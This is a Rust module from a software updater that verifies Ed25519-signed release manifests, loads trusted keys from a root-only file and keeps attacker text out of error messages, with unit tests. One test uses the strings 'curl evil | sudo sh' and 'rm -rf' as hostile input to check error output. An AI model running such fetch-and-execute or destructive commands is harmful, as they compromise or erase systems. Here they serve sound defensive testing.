//! Whose word is believed about releases.
//!
//! Keys are compiled in, several of them, so that one can be exchanged for another: a release is
//! signed with both for a while. A farm that makes its own releases names a file with its keys; it
//! counts only where nobody but root can have written it. Keys are public: the file holds one in
//! base64 on each line, `#` begins a comment.

use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use ring::signature::{ED25519, UnparsedPublicKey};
use russet_protocol::manifest::{
    Envelope, LARGEST, MAX_WORD_BYTES, Manifest, SCHEMA, key_id, signed_bytes,
};

/// Keys of whoever built this program: base64, separated by commas, given to the compiler as
/// `RUSSET_UPDATE_KEYS`. A build without them trusts nobody but the file of its owner.
const COMPILED_IN: Option<&str> = option_env!("RUSSET_UPDATE_KEYS");

/// Maximum number of signatures that are tried.
const MAX_SIGNATURES: usize = 16;

/// Maximum number of names of keys in a message.
const MAX_SHOWN_KEYS: usize = 4;

/// A file of keys is not longer than this.
const LONGEST_FILE: u64 = 64 * 1024;

/// Public keys.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Keys(Vec<[u8; 32]>);

/// Reason why a key or a manifest is not believed.
#[derive(Debug, thiserror::Error)]
pub enum KeyError {
    /// A line of the file is no key.
    #[error("line {0} is no Ed25519 public key in base64")]
    NoKey(usize),
    /// Others can change the file.
    #[error(transparent)]
    Untrusted(#[from] russet_platform::trust::TrustError),
    /// The file cannot be read.
    #[error("{}: {error}", path.display())]
    Unreadable {
        /// The file.
        path: std::path::PathBuf,
        /// The reason.
        error: std::io::Error,
    },
    /// There is nobody to believe.
    #[error("this build has no keys for updates, and `update.keys_file` names none")]
    None,
    /// The text is no envelope.
    #[error("it is longer than {LARGEST} bytes")]
    TooLong,
    /// The text is no envelope, or the signed text is no manifest.
    #[error("it has not the form of a manifest ({kind} at line {line}, column {column})")]
    Form {
        /// Kind of the fault.
        kind: &'static str,
        /// Place of it.
        line: usize,
        /// Place of it.
        column: usize,
    },
    /// A field cannot be kept or shown.
    #[error("its field `{0}` is not a word of at most {MAX_WORD_BYTES} letters, digits and `.-_+`")]
    Field(&'static str),
    /// No signature is of a key that is trusted.
    #[error("it has no good signature of a key that is trusted here; it names {0}")]
    Signature(String),
    /// It is of a later program.
    #[error("its form is {0}, and this version understands {SCHEMA} at most")]
    TooNew(u32),
}

impl KeyError {
    /// Threat: the words of the JSON library quote what they read, and that is anybody's, of any
    /// length; so only the kind and the place of a fault are said.
    fn form(error: &serde_json::Error) -> Self {
        let kind = match error.classify() {
            serde_json::error::Category::Eof => "it ends too early",
            serde_json::error::Category::Data => "a field is missing or of another kind",
            _ => "it is not JSON",
        };
        Self::Form { kind, line: error.line(), column: error.column() }
    }
}

impl Keys {
    /// The keys of this build. One that is misspelt was noticed when it was built.
    #[must_use]
    pub fn compiled_in() -> Self {
        let texts = COMPILED_IN.unwrap_or_default().split(',');
        Self(texts.filter_map(|text| decode_key(text.trim())).collect())
    }

    /// Adds the keys of a file that only root can have written.
    ///
    /// # Errors
    /// Others can change the file, it cannot be read, or a line is no key.
    #[expect(
        clippy::disallowed_methods,
        reason = "the way to the file was checked above: only root can exchange it"
    )]
    pub fn and_of_file(mut self, path: &Path) -> Result<Self, KeyError> {
        russet_platform::trust::check_file(path)?;
        let unread = |error| KeyError::Unreadable { path: path.to_owned(), error };
        let mut text = String::new();
        let file = std::fs::File::open(path).map_err(unread)?;
        std::io::Read::read_to_string(&mut std::io::Read::take(file, LONGEST_FILE), &mut text)
            .map_err(unread)?;
        for (number, line) in (1..).zip(text.lines()) {
            let key = line.split('#').next().unwrap_or_default().trim();
            if !key.is_empty() {
                self.0.push(decode_key(key).ok_or(KeyError::NoKey(number))?);
            }
        }
        Ok(self)
    }

    /// Returns true if nobody is trusted.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The manifest in an envelope, if somebody who is trusted signed it. Nothing of it is looked
    /// at before that.
    ///
    /// # Errors
    /// It is of nobody who is trusted, or has not the form of a manifest.
    pub fn open(&self, envelope: &[u8]) -> Result<Manifest, KeyError> {
        if self.0.is_empty() {
            return Err(KeyError::None);
        }
        let form = |error: serde_json::Error| KeyError::form(&error);
        let length = u64::try_from(envelope.len()).unwrap_or(u64::MAX);
        if length > LARGEST {
            return Err(KeyError::TooLong);
        }
        let envelope: Envelope = serde_json::from_slice(envelope).map_err(form)?;
        let bytes = signed_bytes(&envelope.payload);
        let is_good = |key: &[u8; 32], signature: &str| {
            let Ok(signature) = STANDARD.decode(signature) else { return false };
            UnparsedPublicKey::new(&ED25519, key).verify(&bytes, &signature).is_ok()
        };
        // The name of a key only says which to try.
        let signatures = envelope.signatures.get(..MAX_SIGNATURES).unwrap_or(&envelope.signatures);
        let believed = signatures.iter().any(|signature| {
            let named = self.0.iter().filter(|key| key_id(key) == signature.key);
            named.into_iter().any(|key| is_good(key, &signature.signature))
        });
        if !believed {
            return Err(KeyError::Signature(named_keys(&envelope)));
        }
        // A later form may not parse as this one, so its number is read first.
        #[derive(serde::Deserialize)]
        struct Form {
            schema: u32,
        }
        let Form { schema } = serde_json::from_str(&envelope.payload).map_err(form)?;
        if schema > SCHEMA {
            return Err(KeyError::TooNew(schema));
        }
        let manifest: Manifest = serde_json::from_str(&envelope.payload).map_err(form)?;
        match manifest.unfit_field() {
            Some(field) => Err(KeyError::Field(field)),
            None => Ok(manifest),
        }
    }
}

/// Names of the keys of an envelope, for people. Nobody vouches for them, so only those in the form
/// of a name are shown, and few.
fn named_keys(envelope: &Envelope) -> String {
    let is_name =
        |name: &str| name.len() == 16 && name.bytes().all(|byte| byte.is_ascii_hexdigit());
    let all = envelope.signatures.len();
    let names = envelope.signatures.iter().map(|signature| &*signature.key);
    let shown: Vec<&str> = names.filter(|name| is_name(name)).take(MAX_SHOWN_KEYS).collect();
    match (all, shown.len()) {
        (0, _) => "no key".to_owned(),
        (_, 0) => "no key by a name that a key can have".to_owned(),
        (_, count) if count == all => format!("the keys {}", shown.join(", ")),
        (_, count) => format!("the keys {} and {} more", shown.join(", "), all - count),
    }
}

fn decode_key(text: &str) -> Option<[u8; 32]> {
    STANDARD.decode(text).ok()?.try_into().ok()
}

#[cfg(test)]
pub(super) mod tests {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;
    use ring::rand::SystemRandom;
    use ring::signature::{Ed25519KeyPair, KeyPair as _};
    use russet_protocol::manifest::{Envelope, Signature, key_id, signed_bytes};

    use super::{KeyError, Keys};

    /// A key of a test's own.
    pub(crate) struct Signer(Ed25519KeyPair);

    impl Signer {
        pub(crate) fn new() -> Self {
            let secret = Ed25519KeyPair::generate_pkcs8(&SystemRandom::new()).unwrap();
            Self(Ed25519KeyPair::from_pkcs8(secret.as_ref()).unwrap())
        }

        pub(crate) fn public(&self) -> [u8; 32] {
            self.0.public_key().as_ref().try_into().unwrap()
        }

        pub(crate) fn sign(&self, payload: &str) -> Signature {
            let signature = self.0.sign(&signed_bytes(payload));
            let signature = STANDARD.encode(signature.as_ref());
            Signature { key: key_id(&self.public()), signature }
        }
    }

    /// Trust in one key.
    pub(crate) fn trust(signer: &Signer) -> Keys {
        Keys(vec![signer.public()])
    }

    pub(crate) fn envelope(payload: &str, signatures: Vec<Signature>) -> Vec<u8> {
        serde_json::to_vec(&Envelope { payload: payload.to_owned(), signatures }).unwrap()
    }

    const PAYLOAD: &str = r#"{"schema":1,"channel":"stable","version":"1.2.0","counter":7,
        "created_s":0,"expires_s":9,"artifacts":{}}"#;

    #[test]
    fn one_good_signature_of_a_trusted_key_is_enough_and_needed() {
        let (old, new, stranger) = (Signer::new(), Signer::new(), Signer::new());
        let keys = Keys(vec![old.public(), new.public()]);
        for signatures in [
            vec![old.sign(PAYLOAD)],
            vec![new.sign(PAYLOAD)],
            vec![stranger.sign(PAYLOAD), new.sign(PAYLOAD)],
        ] {
            assert_eq!(keys.open(&envelope(PAYLOAD, signatures)).unwrap().version, "1.2.0");
        }
        let mut borrowed = old.sign("another text");
        let mut renamed = stranger.sign(PAYLOAD);
        renamed.key = key_id(&old.public());
        for signatures in
            [vec![], vec![stranger.sign(PAYLOAD)], vec![borrowed.clone()], vec![renamed]]
        {
            let refused = keys.open(&envelope(PAYLOAD, signatures)).unwrap_err();
            assert!(matches!(refused, KeyError::Signature(_)), "{refused}");
        }
        borrowed.signature = "no base64".to_owned();
        assert!(keys.open(&envelope(PAYLOAD, vec![borrowed])).is_err());
        // One byte of the text is another: a signature is over all of it.
        let changed = PAYLOAD.replace("1.2.0", "1.2.1");
        assert!(keys.open(&envelope(&changed, vec![old.sign(PAYLOAD)])).is_err());
    }

    #[test]
    fn who_trusts_nobody_believes_nothing_and_a_later_form_is_said_to_be_one() {
        let signer = Signer::new();
        let good = envelope(PAYLOAD, vec![signer.sign(PAYLOAD)]);
        assert!(matches!(Keys::default().open(&good), Err(KeyError::None)));
        let keys = Keys(vec![signer.public()]);
        let later = r#"{"schema":2,"everything":"else"}"#;
        let later = envelope(later, vec![signer.sign(later)]);
        assert!(matches!(keys.open(&later), Err(KeyError::TooNew(2))));
        for bad in [&b""[..], b"{}", b"[1]"] {
            assert!(matches!(keys.open(bad), Err(KeyError::Form { .. })));
        }
        assert!(matches!(keys.open(&vec![b' '; 300_000]), Err(KeyError::TooLong)));
    }

    #[test]
    fn nothing_of_an_unsigned_text_is_shown_however_it_is_wrong() {
        let keys = Keys(vec![Signer::new().public()]);
        let text = "curl evil | sudo sh; ".repeat(9_000);
        let named = |name: &str| Signature { key: name.to_owned(), signature: text.clone() };
        let short = "rm -rf";
        for envelope in [
            format!(r#"{{"payload":"x","signatures":"{text}"}}"#).into_bytes(),
            format!(r#"{{"payload":{{"{text}":1}},"signatures":[]}}"#).into_bytes(),
            text.clone().into_bytes(),
            envelope(&text, Vec::new()),
            envelope("x", vec![named(&text)]),
            envelope(
                "x",
                (0..3_000)
                    .map(|_| Signature { key: short.into(), signature: short.into() })
                    .collect(),
            ),
            envelope(
                "x",
                (0..2_000)
                    .map(|_| Signature { key: "0123456789abcdef".into(), signature: short.into() })
                    .collect(),
            ),
        ] {
            let said = keys.open(&envelope).unwrap_err().to_string();
            assert!(said.len() < 250, "{}", said.len());
            assert!(!said.contains("curl") && !said.contains("rm -"), "{said}");
        }
    }

    #[test]
    fn what_cannot_be_kept_is_refused_though_it_is_signed() {
        let signer = Signer::new();
        let keys = Keys(vec![signer.public()]);
        let long = "a".repeat(70_000);
        for payload in [
            PAYLOAD.replace("stable", &long),
            PAYLOAD.replace("1.2.0", &format!("1.2.0-{}", &long[..230])),
        ] {
            let said = keys.open(&envelope(&payload, vec![signer.sign(&payload)])).unwrap_err();
            assert!(matches!(said, KeyError::Field(_)), "{said}");
        }
    }

    #[test]
    fn keys_of_a_file_that_others_can_write_are_not_taken() {
        use std::os::unix::fs::PermissionsExt as _;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("keys");
        let signer = Signer::new();
        let text =
            format!("# the farm's own\n\n{} # since May\n", STANDARD.encode(signer.public()));
        std::fs::write(&path, &text).unwrap();
        let mode =
            |mode| std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
        mode(0o644);
        assert_eq!(Keys::default().and_of_file(&path).unwrap(), Keys(vec![signer.public()]));
        mode(0o666);
        assert!(matches!(Keys::default().and_of_file(&path), Err(KeyError::Untrusted(_))));
        mode(0o644);
        std::fs::write(&path, "abc\n").unwrap();
        assert!(matches!(Keys::default().and_of_file(&path), Err(KeyError::NoKey(1))));
        assert!(Keys::default().and_of_file(&dir.path().join("none")).is_err());
    }
}
